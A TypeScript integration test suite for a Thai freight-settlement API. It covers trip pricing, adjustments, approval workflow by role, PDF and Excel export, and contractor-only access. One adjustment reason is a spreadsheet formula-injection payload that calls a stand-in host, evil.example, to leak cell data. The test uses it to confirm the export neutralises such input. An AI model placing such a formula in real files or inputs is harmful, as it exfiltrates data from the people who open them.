import {
  ROLE_FREIGHT_STATEMENT_APPROVE,
  ROLE_FREIGHT_STATEMENT_CHECK,
  ROLE_FREIGHT_STATEMENT_EDIT,
  ROLE_FREIGHT_STATEMENT_EXPORT,
  ROLE_FREIGHT_STATEMENT_READ,
} from '@lms/domain';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { insertRecords } from '../src/seed/insertRecords.ts';
import { call, createBranch, createUser, signIn } from './fixtures.ts';
import { setupTestServer } from './harness.ts';
import { pdfPages } from './pdfText.ts';

/**
 * Freight settlement (docs/freight.md) against real PostgreSQL: a contractor's October at one
 * branch, every figure worked out by hand below, drafted, adjusted, checked, approved, printed,
 * exported; an approved statement that a later change to its trips does not move; the next month
 * taking the trip that came late; refusals by role, state, version and rule, in Thai.
 *
 * Price lists: 6-wheel from 2026-01-01 min 1,200 / ≤75 km 2,200 / ≤150 km 3,800 / extra drop 300,
 * from 2026-10-15 min 1,300 / 2,400 / 4,000 / 350; 4-wheel from 2026-01-01 min 1,000 / 900 / 1,600.
 * Contractor A's delivered October trips:
 *   SH-01 6W 05/10  1 drop   40 km → 2,200
 *   SH-02 6W 10/10  3 drops 180 km → 3,800 × 180 / 150 = 4,560 + 2 × 300 = 5,160
 *   SH-03 6W 20/10  1 drop  100 km → 4,000 (the list from 15/10)
 *   SH-04 4W 21/10  1 drop   12 km → 900 below the minimum → 1,000
 * = 4 trips, 332 km, 12,360.00; adjustments −500 + 250.50 = −249.50; total 12,110.50.
 */

const server = setupTestServer();

let branchId = '';
let otherBranchId = '';
const ids = {} as Record<string, string>;
const tokens = {} as Record<'editor' | 'reader' | 'checker' | 'approver' | 'exporter' | 'none', string>;
const users = {} as Record<string, string>;

const q = () => `branchId=${branchId}`;
const api = (method: string, path: string, token: string, body?: unknown) =>
  call(server.api, method, path, { token, body });

async function shipment(
  docNo: string,
  vehicle: string,
  day: string,
  bookings: readonly { shipTo: string; km: number; canceled?: boolean }[],
  options: { delivered?: boolean; branch?: string } = {},
) {
  const branch = options.branch ?? branchId;
  const { rows } = await sql<{ id: string }>`
    insert into shipment (branch_id, doc_no, vehicle_id, vehicle_type_id, driver_id, car_plate_snap, shift_date, act_date_ship_end, act_time_ship_end)
    select ${branch}, ${docNo}, v.id, v.vehicle_type_id, ${ids.driver}, v.license_plate, ${day}::date,
      ${options.delivered === false ? null : day}::date, ${options.delivered === false ? null : '17:00'}::time
    from vehicle v where v.id = ${ids[vehicle]!} returning id`.execute(server.db);
  const id = rows[0]!.id;
  for (const [i, booking] of bookings.entries()) {
    const { rows: made } = await sql<{ id: string }>`
      insert into booking_report (branch_id, status, doc_no, customer_id, ship_to_id, distance, canceled_at)
      values (${branch}, 'CONFIRMED', ${`BK-${docNo}-${i}`}, ${ids.customer}, ${ids[booking.shipTo]!}, ${booking.km},
        ${booking.canceled ? new Date() : null}) returning id`.execute(server.db);
    await sql`insert into shipment__booking_report_ids (owner_id, ref_id) values (${id}, ${made[0]!.id})`.execute(
      server.db,
    );
  }
  ids[docNo] = id;
  return id;
}

beforeAll(async () => {
  [branchId] = (await insertRecords(server.db, 'branch', [{ code: 'FRT', name: 'สาขาทดสอบค่าขนส่ง' }])) as [
    string,
  ];
  otherBranchId = await createBranch(server.db);
  const [six, four, ten] = await insertRecords(server.db, 'vehicleType', [
    { code: '6W', name: 'รถ 6 ล้อ', maxCapacityWeight: 5500, maxCapacityVolume: 22 },
    { code: '4W', name: 'รถ 4 ล้อ', maxCapacityWeight: 1500, maxCapacityVolume: 6 },
    { code: '10W', name: 'รถ 10 ล้อ', maxCapacityWeight: 15000, maxCapacityVolume: 40 },
  ]);
  await insertRecords(server.db, 'shippingPriceConfig', [
    {
      vehicleTypeId: six,
      validFrom: '2026-01-01',
      minimumFee: 1200,
      fee75Km: 2200,
      fee150Km: 3800,
      extraDropFee: 300,
    },
    {
      vehicleTypeId: six,
      validFrom: '2026-10-15',
      minimumFee: 1300,
      fee75Km: 2400,
      fee150Km: 4000,
      extraDropFee: 350,
    },
    { vehicleTypeId: four, validFrom: '2026-01-01', minimumFee: 1000, fee75Km: 900, fee150Km: 1600 },
  ]);
  const [contractorA, contractorB] = await insertRecords(server.db, 'contractor', [
    { code: 'CTA', firstName: 'สมศักดิ์', lastName: 'ขนส่งเร็ว' },
    { code: 'CTB', firstName: 'มานี', lastName: 'รถบรรทุกไทย' },
  ]);
  Object.assign(ids, { contractorA, contractorB });
  const [t6a, t4a, t10b, t6c, t6aOther] = await insertRecords(server.db, 'vehicle', [
    {
      code: 'T6A',
      name: '6 ล้อ ของ A',
      licensePlate: '70-1001',
      vehicleTypeId: six,
      branchId,
      contractorId: contractorA,
    },
    {
      code: 'T4A',
      name: '4 ล้อ ของ A',
      licensePlate: '70-1002',
      vehicleTypeId: four,
      branchId,
      contractorId: contractorA,
    },
    {
      code: 'T10B',
      name: '10 ล้อ ของ B',
      licensePlate: '70-1003',
      vehicleTypeId: ten,
      branchId,
      contractorId: contractorB,
    },
    { code: 'T6C', name: '6 ล้อ ของบริษัท', licensePlate: '70-1004', vehicleTypeId: six, branchId },
    {
      code: 'T6AX',
      name: '6 ล้อ ของ A อีกสาขา',
      licensePlate: '70-1005',
      vehicleTypeId: six,
      branchId: otherBranchId,
      contractorId: contractorA,
    },
  ]);
  Object.assign(ids, { t6a, t4a, t10b, t6c, t6aOther });
  const [driver] = await insertRecords(server.db, 'driver', [
    { code: 'DRV-A', name: 'สมหมาย ขับดี', branchId, contractorId: contractorA, vehicleId: t6a },
  ]);
  ids.driver = driver!;
  const [regionId] = await insertRecords(server.db, 'region', [{ code: 'RF', nameTh: 'ภาคทดสอบ' }]);
  const [provinceId] = await insertRecords(server.db, 'province', [
    { code: 'PF', nameTh: 'จังหวัดทดสอบ', regionId },
  ]);
  const [districtId] = await insertRecords(server.db, 'district', [
    { code: 'DF', nameTh: 'อำเภอทดสอบ', provinceId },
  ]);
  const [subDistrictId] = await insertRecords(server.db, 'subDistrict', [
    { code: 'SF', nameTh: 'ตำบลทดสอบ', districtId, lat: 13.7, lon: 100.5 },
  ]);
  const [customer] = await insertRecords(server.db, 'customer', [{ code: 'CUF', name: 'ลูกค้าทดสอบ' }]);
  ids.customer = customer!;
  const [s1, s2, s3] = await insertRecords(server.db, 'shipTo', [
    { code: 'STF1', name: 'ร้านที่หนึ่ง', subDistrictId },
    { code: 'STF2', name: 'ร้านที่สอง', subDistrictId },
    { code: 'STF3', name: 'ร้านที่สาม', subDistrictId },
  ]);
  Object.assign(ids, { s1, s2, s3 });

  await shipment('SH-01', 't6a', '2026-10-05', [{ shipTo: 's1', km: 40 }]);
  await shipment('SH-02', 't6a', '2026-10-10', [
    { shipTo: 's1', km: 60 },
    { shipTo: 's2', km: 180 },
    { shipTo: 's3', km: 120 },
    // Cancelled: neither a drop nor a distance.
    { shipTo: 's3', km: 400, canceled: true },
  ]);
  await shipment('SH-03', 't6a', '2026-10-20', [
    { shipTo: 's2', km: 100 },
    { shipTo: 's2', km: 100 },
  ]);
  await shipment('SH-04', 't4a', '2026-10-21', [{ shipTo: 's3', km: 12 }]);
  await shipment('SH-05', 't4a', '2026-10-22', [{ shipTo: 's3', km: 30 }], { delivered: false });
  await shipment('SH-06', 't10b', '2026-10-06', [{ shipTo: 's1', km: 50 }]);
  await shipment('SH-07', 't6c', '2026-10-07', [{ shipTo: 's1', km: 50 }]);
  await shipment('SH-08', 't6a', '2026-11-02', [{ shipTo: 's1', km: 70 }]);
  await shipment('SH-09', 't6aOther', '2026-10-08', [{ shipTo: 's1', km: 70 }], { branch: otherBranchId });

  const roleUsers = {
    editor: [ROLE_FREIGHT_STATEMENT_EDIT],
    reader: [ROLE_FREIGHT_STATEMENT_READ],
    // The checker may approve too, but not what they checked.
    checker: [ROLE_FREIGHT_STATEMENT_CHECK, ROLE_FREIGHT_STATEMENT_APPROVE],
    approver: [ROLE_FREIGHT_STATEMENT_APPROVE],
    exporter: [ROLE_FREIGHT_STATEMENT_EXPORT],
    none: ['ROLE_SHIPMENT_READ'],
  } as const;
  for (const [name, roles] of Object.entries(roleUsers)) {
    const user = await createUser(server.db, { roles: [...roles], branchIds: [branchId] });
    users[name] = user.id;
    tokens[name as keyof typeof tokens] = await signIn(server.api, user);
  }
}, 120_000);

let october = '';
let version = 0;

describe('a contractor’s month: drafted, adjusted, checked, approved, printed, exported', () => {
  it('lists the contractors whose trucks delivered in the month', async () => {
    const answer = await api('GET', `/freightStatements/candidates?${q()}&month=2026-10`, tokens.reader);
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual([
      { contractorId: ids.contractorA, contractorLabel: 'CTA: สมศักดิ์ ขนส่งเร็ว', trips: 4, statementId: null },
      { contractorId: ids.contractorB, contractorLabel: 'CTB: มานี รถบรรทุกไทย', trips: 1, statementId: null },
    ]);
  });

  it('drafts the statement with the hand-computed trips and total', async () => {
    const answer = await api('POST', `/freightStatements?${q()}`, tokens.editor, {
      contractorId: ids.contractorA,
      month: '2026-10',
    });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    const statement = answer.body;
    october = statement.id;
    version = statement.version;
    expect(statement).toMatchObject({
      number: 'FS-FRT-CTA-202610',
      month: '2026-10',
      state: 'DRAFT',
      contractorLabel: 'CTA: สมศักดิ์ ขนส่งเร็ว',
      totals: { trips: 4, distanceKm: 332, tripFees: 12360, adjustments: 0, total: 12360 },
      created: { userId: users.editor },
      checked: null,
    });
    expect(
      statement.trips.map((t: Record<string, unknown>) => [
        t.docNo,
        t.day,
        t.drops,
        t.distanceKm,
        t.tier,
        t.priceValidFrom,
        t.distanceFee,
        t.extraDrops,
        t.extraDropFee,
        t.fee,
        t.minimumApplied,
      ]),
    ).toEqual([
      ['SH-01', '2026-10-05', 1, 40, 'upTo75Km', '2026-01-01', 2200, 0, 0, 2200, false],
      ['SH-02', '2026-10-10', 3, 180, 'beyond150Km', '2026-01-01', 4560, 2, 600, 5160, false],
      ['SH-03', '2026-10-20', 1, 100, 'upTo150Km', '2026-10-15', 4000, 0, 0, 4000, false],
      ['SH-04', '2026-10-21', 1, 12, 'upTo75Km', '2026-01-01', 1000, 0, 0, 1000, true],
    ]);
    expect(statement.trips[0]).toMatchObject({
      licensePlate: '70-1001',
      vehicleTypeLabel: '6W: รถ 6 ล้อ',
      driverName: 'สมหมาย ขับดี',
      problem: null,
      late: false,
    });
  });

  it('refuses a second statement of the same contractor and month, and a month not begun', async () => {
    const again = await api('POST', `/freightStatements?${q()}`, tokens.editor, {
      contractorId: ids.contractorA,
      month: '2026-10',
    });
    expect(again.status).toBe(409);
    expect(again.body.messages).toEqual(['มีใบสรุปค่าขนส่งของ CTA: สมศักดิ์ ขนส่งเร็ว เดือน ตุลาคม 2569 ในสาขานี้อยู่แล้ว']);
    const future = await api('POST', `/freightStatements?${q()}`, tokens.editor, {
      contractorId: ids.contractorA,
      month: '2099-01',
    });
    expect(future.status).toBe(422);
    expect(future.body.errors).toEqual({ month: 'สร้างใบสรุปของเดือนที่ยังไม่เริ่มไม่ได้' });
    const reader = await api('POST', `/freightStatements?${q()}`, tokens.reader, {
      contractorId: ids.contractorB,
      month: '2026-10',
    });
    expect(reader.status).toBe(403);
  });

  it('adds adjustments with a reason and who made them; refuses bad ones and stale versions', async () => {
    const bad = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version,
      amount: 0,
      reason: '   ',
    });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.body.errors).sort()).toEqual(['amount', 'reason']);
    const damage = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version,
      amount: -500,
      reason: 'สินค้าเสียหาย 1 กล่อง (SH-02)',
    });
    expect(damage.status).toBe(200);
    const stale = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version,
      amount: 250.5,
      reason: 'ค่าทางด่วน',
    });
    expect(stale.status).toBe(409);
    expect(stale.body.messages).toEqual(['ใบสรุปนี้มีผู้อื่นแก้ไขไปแล้ว กรุณาโหลดใหม่แล้วลองอีกครั้ง']);
    const tolls = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version: damage.body.version,
      amount: 250.5,
      reason: '=HYPERLINK("http://evil.example/?x="&A1) ค่าทางด่วน',
    });
    expect(tolls.status).toBe(200);
    // A third, removed again: the removal is history too.
    const typo = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version: tolls.body.version,
      amount: 99,
      reason: 'พิมพ์ผิด',
    });
    const removed = await api(
      'DELETE',
      `/freightStatements/${october}/adjustments/${typo.body.adjustments[2].id}?${q()}&version=${typo.body.version}`,
      tokens.editor,
    );
    expect(removed.status).toBe(200);
    expect(removed.body.totals).toEqual({
      trips: 4,
      distanceKm: 332,
      tripFees: 12360,
      adjustments: -249.5,
      total: 12110.5,
    });
    expect(
      removed.body.adjustments.map((a: { amount: number; userId: string }) => [a.amount, a.userId]),
    ).toEqual([
      [-500, users.editor],
      [250.5, users.editor],
    ]);
    version = removed.body.version;
  });

  it('moves each state only by its role, the checker never approving, with Thai refusals naming the rule', async () => {
    const move = (token: string, to: string, v = version) =>
      api('POST', `/freightStatements/${october}/transition?${q()}`, token, { version: v, to });
    const byEditor = await move(tokens.editor, 'CHECKED');
    expect(byEditor.status).toBe(403);
    expect(byEditor.body.messages[0]).toMatch(/^คุณไม่มีสิทธิ์|^ไม่มีสิทธิ์/);
    const skipping = await move(tokens.approver, 'APPROVED');
    expect(skipping.status).toBe(409);
    expect(skipping.body.messages).toEqual([
      'เปลี่ยนสถานะจาก "ร่าง" เป็น "อนุมัติแล้ว" ไม่ได้: ลำดับคือ ร่าง → ตรวจแล้ว → อนุมัติแล้ว → ส่งออกแล้ว',
    ]);
    const byExporter = await move(tokens.exporter, 'CHECKED');
    expect(byExporter.status).toBe(403);
    expect(byExporter.body.messages).toEqual([
      'ไม่มีสิทธิ์ยืนยันว่าตรวจแล้ว: ต้องเป็นผู้ตรวจ (สิทธิ์ ROLE_ADMIN หรือ ROLE_FREIGHT_STATEMENT_CHECK)',
    ]);
    const checked = await move(tokens.checker, 'CHECKED');
    expect(checked.status).toBe(200);
    expect(checked.body).toMatchObject({ state: 'CHECKED', checked: { userId: users.checker } });
    version = checked.body.version;
    // Checked: nothing changes any more until it is sent back.
    const late = await api('POST', `/freightStatements/${october}/adjustments?${q()}`, tokens.editor, {
      version,
      amount: 10,
      reason: 'ลืมใส่',
    });
    expect(late.status).toBe(409);
    expect(late.body.messages).toEqual([
      'แก้ไขได้เฉพาะใบสรุปที่เป็นร่าง (ใบนี้ตรวจแล้ว): ให้ผู้ตรวจหรือผู้อนุมัติส่งกลับไปแก้ไขก่อน',
    ]);
    const selfApproval = await move(tokens.checker, 'APPROVED');
    expect(selfApproval.status).toBe(403);
    expect(selfApproval.body.messages).toEqual([
      'อนุมัติไม่ได้: ผู้ที่ตรวจใบสรุปนี้จะอนุมัติเองไม่ได้ (ผู้ตรวจและผู้อนุมัติต้องเป็นคนละคน)',
    ]);
    const approved = await move(tokens.approver, 'APPROVED');
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({ state: 'APPROVED', approved: { userId: users.approver } });
    version = approved.body.version;
  });

  it('never changes an approved statement: a later change to its trips, prices or trucks does not move it', async () => {
    const before = (await api('GET', `/freightStatements/${october}?${q()}`, tokens.reader)).body;
    // The trips change after approval: a booking's distance, a truck's owner, a trip's type, a price.
    await sql`update booking_report set distance = 5 where doc_no like 'BK-SH-02-%'`.execute(server.db);
    await sql`update vehicle set contractor_id = null where id = ${ids.t4a}`.execute(server.db);
    await sql`update shipment set vehicle_type_id = null where doc_no = 'SH-01'`.execute(server.db);
    await sql`update shipping_price_config set fee75_km = 9999`.execute(server.db);
    await sql`delete from shipment__booking_report_ids where owner_id = ${ids['SH-03']!}`.execute(server.db);
    const after = await api('GET', `/freightStatements/${october}?${q()}`, tokens.reader);
    expect(after.body).toEqual(before);
    expect(after.body.totals.total).toBe(12110.5);
    const recalc = await api('POST', `/freightStatements/${october}/recalculate?${q()}`, tokens.editor, {
      version,
    });
    expect(recalc.status).toBe(409);
    expect(recalc.body.messages).toEqual([
      'ใบสรุปที่อนุมัติแล้วแก้ไขไม่ได้อีก: การแก้ไขให้ทำเป็นรายการปรับยอดในใบสรุปของเดือนถัดไป',
    ]);
    const reopen = await api('POST', `/freightStatements/${october}/transition?${q()}`, tokens.approver, {
      version,
      to: 'DRAFT',
    });
    expect(reopen.status).toBe(409);
    expect((await api('GET', `/freightStatements/${october}?${q()}`, tokens.reader)).body).toEqual(before);
    // Put the world back for the later tests.
    await sql`update booking_report set distance = 180 where doc_no = 'BK-SH-02-1'`.execute(server.db);
    await sql`update vehicle set contractor_id = ${ids.contractorA} where id = ${ids.t4a}`.execute(server.db);
    await sql`update shipping_price_config set fee75_km = case when valid_from = '2026-10-15' then 2400
      when minimum_fee = 1000 then 900 else 2200 end`.execute(server.db);
  });

  it('prints the statement as a Thai PDF, in the company’s era (พ.ศ. by default)', async () => {
    const response = await fetch(`${server.api}/freightStatements/${october}/statement.pdf?${q()}`, {
      headers: { authorization: `Bearer ${tokens.reader}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    const pages = await pdfPages(new Uint8Array(await response.arrayBuffer()));
    // A cell's words may wrap onto its next line: compared without white space.
    const text = pages.join('').replace(/\s+/g, '');
    for (const expected of [
      'ใบสรุปค่าขนส่งผู้รับเหมา',
      'FS-FRT-CTA-202610',
      'CTA: สมศักดิ์ ขนส่งเร็ว',
      'ตุลาคม 2569',
      'อนุมัติแล้ว',
      'SH-02',
      '05/10/2569',
      'เกิน 150 กม. (ตามสัดส่วน)',
      'ไม่เกิน 75 กม. (ขั้นต่ำ)',
      '2 จุด = 600.00',
      '5,160.00',
      '12,360.00',
      '-249.50',
      '12,110.50',
      'สินค้าเสียหาย 1 กล่อง (SH-02)',
      'ปี พ.ศ.',
    ])
      expect(text).toContain(expected.replace(/\s+/g, ''));
  });

  it('exports the statement as Excel for accounting: numbers as numbers, a formula-like reason as text', async () => {
    const response = await fetch(`${server.api}/freightStatements/${october}/statement.xlsx?${q()}`, {
      headers: { authorization: `Bearer ${tokens.reader}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('FS-FRT-CTA-202610.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await response.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    const find = (label: string) => rows.find((row) => row[0] === label);
    expect(find('ยอดที่ต้องจ่าย (บาท)')?.[1]).toBe(12110.5);
    expect(find('ค่าขนส่งรวม (บาท)')?.[1]).toBe(12360);
    const sh02 = rows.find((row) => row[2] === 'SH-02')!;
    expect(sh02[1]).toEqual(new Date('2026-10-10T00:00:00Z'));
    expect(sh02.slice(6, 13)).toEqual([3, 180, 'เกิน 150 กม. (ตามสัดส่วน)', 4560, 2, 600, 5160]);
    expect(rows.some((row) => row[2] === `'=HYPERLINK("http://evil.example/?x="&A1) ค่าทางด่วน`)).toBe(true);
  });

  it('is marked exported by accounting, and keeps the history of every change', async () => {
    const exported = await api('POST', `/freightStatements/${october}/transition?${q()}`, tokens.exporter, {
      version,
      to: 'EXPORTED',
    });
    expect(exported.status).toBe(200);
    expect(exported.body.state).toBe('EXPORTED');
    const history = await api('GET', `/freightStatements/${october}/history?${q()}`, tokens.reader);
    expect(history.status).toBe(200);
    expect(
      history.body.map((e: { action: string; changes: Record<string, unknown>; userId: string }) => [
        e.action,
        e.userId,
        (e.changes.state as { to?: string } | undefined)?.to ?? e.changes.amount ?? null,
      ]),
    ).toEqual([
      ['transition', users.exporter, 'EXPORTED'],
      ['transition', users.approver, 'APPROVED'],
      ['transition', users.checker, 'CHECKED'],
      ['removeAdjustment', users.editor, 99],
      ['adjust', users.editor, 99],
      ['adjust', users.editor, 250.5],
      ['adjust', users.editor, -500],
      ['create', users.editor, null],
    ]);
    expect(history.body[0].userLabel).toMatch(/^user/);
    const list = await api('GET', `/freightStatements?${q()}&month=2026-10`, tokens.reader);
    expect(list.body).toEqual([
      expect.objectContaining({
        id: october,
        state: 'EXPORTED',
        totals: expect.objectContaining({ total: 12110.5 }),
      }),
    ]);
  });
});

describe('the next month', () => {
  let november = '';

  it('takes a trip of an approved month recorded late, marked as such, and the month’s own trips', async () => {
    await shipment('SH-10', 't6a', '2026-10-28', [{ shipTo: 's1', km: 20 }]);
    const answer = await api('POST', `/freightStatements?${q()}`, tokens.editor, {
      contractorId: ids.contractorA,
      month: '2026-11',
    });
    expect(answer.status).toBe(201);
    november = answer.body.id;
    // SH-10: 28/10 on the list from 15/10, ≤ 75 km → 2,400; SH-08: 02/11, 70 km → 2,400.
    expect(answer.body.trips.map((t: Record<string, unknown>) => [t.docNo, t.late, t.fee])).toEqual([
      ['SH-10', true, 2400],
      ['SH-08', false, 2400],
    ]);
    expect(answer.body.totals.total).toBe(4800);
  });

  it('prices a draft again from the trips as they now stand, and records by how much', async () => {
    const before = (await api('GET', `/freightStatements/${november}?${q()}`, tokens.reader)).body;
    await sql`update booking_report set distance = 90 where doc_no = 'BK-SH-08-0'`.execute(server.db);
    const recalculated = await api(
      'POST',
      `/freightStatements/${november}/recalculate?${q()}`,
      tokens.editor,
      {
        version: before.version,
      },
    );
    expect(recalculated.status).toBe(200);
    // SH-08 at 90 km → 4,000.
    expect(recalculated.body.totals.total).toBe(6400);
    const history = await api('GET', `/freightStatements/${november}/history?${q()}`, tokens.reader);
    expect(history.body[0]).toMatchObject({
      action: 'recalculate',
      changes: { trips: { from: 2, to: 2 }, total: { from: 4800, to: 6400 } },
    });
  });

  it('will not check a statement with a trip it cannot price, naming the trip', async () => {
    const b = await api('POST', `/freightStatements?${q()}`, tokens.editor, {
      contractorId: ids.contractorB,
      month: '2026-10',
    });
    expect(b.status).toBe(201);
    expect(b.body.trips[0]).toMatchObject({
      docNo: 'SH-06',
      fee: 0,
      problem:
        'คิดค่าขนส่งไม่ได้: ไม่มีราคาค่าขนส่งของ 10W: รถ 10 ล้อ ที่ใช้ได้ในวันที่ 06/10/2569 (เพิ่มราคาในเมนู ราคาค่าขนส่งรถที่แนะนำ)',
    });
    const check = await api('POST', `/freightStatements/${b.body.id}/transition?${q()}`, tokens.checker, {
      version: b.body.version,
      to: 'CHECKED',
    });
    expect(check.status).toBe(422);
    expect(check.body.messages).toEqual([
      'ยืนยันการตรวจไม่ได้: ยังคิดค่าขนส่งไม่ได้ 1 เที่ยว (SH-06) ให้แก้ข้อมูลแล้วกดคำนวณใหม่',
    ]);
  });

  it('keeps statements to their branch: another branch’s id is not found, another branch’s user is refused', async () => {
    const admin = await signIn(server.api, await createUser(server.db, { roles: ['ROLE_ADMIN'] }));
    const elsewhere = await api('GET', `/freightStatements/${november}?branchId=${otherBranchId}`, admin);
    expect(elsewhere.status).toBe(404);
    expect(elsewhere.body.messages).toEqual(['ไม่พบใบสรุปค่าขนส่งที่ต้องการ']);
    const stranger = await signIn(
      server.api,
      await createUser(server.db, { roles: [ROLE_FREIGHT_STATEMENT_READ], branchIds: [otherBranchId] }),
    );
    expect((await api('GET', `/freightStatements/${november}?${q()}`, stranger)).status).toBe(403);
    expect((await api('GET', `/freightStatements?${q()}`, tokens.none)).status).toBe(403);
  });
});

describe('a contractor’s own account', () => {
  let token = '';
  const statementOf = async (contractor: string, month: string) =>
    (
      await sql<{ id: string }>`select id from freight_statement
        where contractor_id = ${ids[contractor]!} and month = ${month}`.execute(server.db)
    ).rows[0]!.id;

  beforeAll(async () => {
    // Its group may even hold EDIT and CHECK: the link to a contractor narrows it, whatever the roles.
    const user = await createUser(server.db, {
      roles: [ROLE_FREIGHT_STATEMENT_READ, ROLE_FREIGHT_STATEMENT_EDIT, ROLE_FREIGHT_STATEMENT_CHECK],
      branchIds: [branchId],
    });
    await sql`update contractor set app_user_id = ${user.id} where id = ${ids.contractorA!}`.execute(
      server.db,
    );
    token = await signIn(server.api, user);
  });

  it('lists only its own approved statements: not its draft, not another contractor’s', async () => {
    const list = await api('GET', `/freightStatements?${q()}`, token);
    expect(list.status).toBe(200);
    expect(
      list.body.map((s: { month: string; contractorId: string; state: string }) => [s.month, s.state]),
    ).toEqual([['2026-10', 'EXPORTED']]);
    // Staff see all three (A's October and November, B's October).
    expect((await api('GET', `/freightStatements?${q()}`, tokens.reader)).body).toHaveLength(3);
  });

  it('reads, prints and exports its approved statement with its trips', async () => {
    const october = await statementOf('contractorA', '2026-10');
    const read = await api('GET', `/freightStatements/${october}?${q()}`, token);
    expect(read.status).toBe(200);
    expect(read.body.trips.map((t: { docNo: string }) => t.docNo)).toEqual([
      'SH-01',
      'SH-02',
      'SH-03',
      'SH-04',
    ]);
    expect((await api('GET', `/freightStatements/${october}/history?${q()}`, token)).status).toBe(200);
    expect((await api('GET', `/freightStatements/${october}/statement.pdf?${q()}`, token)).status).toBe(200);
    expect((await api('GET', `/freightStatements/${october}/statement.xlsx?${q()}`, token)).status).toBe(200);
  });

  it('does not find its draft or another contractor’s statement, on every read', async () => {
    for (const id of [
      await statementOf('contractorA', '2026-11'),
      await statementOf('contractorB', '2026-10'),
    ])
      for (const path of ['', '/history', '/statement.pdf', '/statement.xlsx']) {
        const answer = await api('GET', `/freightStatements/${id}${path}?${q()}`, token);
        expect(answer.status, path).toBe(404);
        expect(answer.body.messages).toEqual(['ไม่พบใบสรุปค่าขนส่งที่ต้องการ']);
      }
  });

  it('sees its own month waiting for a statement, nobody else’s', async () => {
    await shipment('SH-12', 't6a', '2026-09-10', [{ shipTo: 's1', km: 20 }]);
    await shipment('SH-13', 't10b', '2026-09-11', [{ shipTo: 's2', km: 20 }]);
    const waiting = (answer: { body: { contractorId: string }[] }) => answer.body.map((c) => c.contractorId);
    expect(
      waiting(await api('GET', `/freightStatements/candidates?month=2026-09&${q()}`, tokens.reader)),
    ).toEqual(expect.arrayContaining([ids.contractorA, ids.contractorB]));
    expect(waiting(await api('GET', `/freightStatements/candidates?month=2026-09&${q()}`, token))).toEqual([
      ids.contractorA,
    ]);
    // Its October (exported) is on its list, not among the waiting.
    expect(waiting(await api('GET', `/freightStatements/candidates?month=2026-10&${q()}`, token))).toEqual(
      [],
    );
  });

  it('drafts, adjusts, recalculates and moves nothing', async () => {
    const november = await statementOf('contractorA', '2026-11');
    const own = 'บัญชีผู้รับเหมาเห็นได้เฉพาะใบสรุปค่าขนส่งของตนเองที่อนุมัติแล้ว และสร้าง แก้ไข หรือเปลี่ยนสถานะใบสรุปไม่ได้';
    const refusals = await Promise.all([
      api('POST', `/freightStatements?${q()}`, token, { contractorId: ids.contractorA, month: '2026-09' }),
      api('POST', `/freightStatements/${november}/adjustments?${q()}`, token, {
        version: 1,
        amount: 100,
        reason: 'ขอเพิ่มเอง',
      }),
      api('POST', `/freightStatements/${november}/recalculate?${q()}`, token, { version: 1 }),
      api('POST', `/freightStatements/${november}/transition?${q()}`, token, { version: 1, to: 'CHECKED' }),
    ]);
    for (const answer of refusals) {
      expect(answer.status).toBe(403);
      expect(answer.body.messages).toEqual([own]);
    }
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from freight_statement
      where contractor_id = ${ids.contractorA!} and month = '2026-09'`.execute(server.db);
    expect(rows[0]!.n).toBe(0);
  });
});
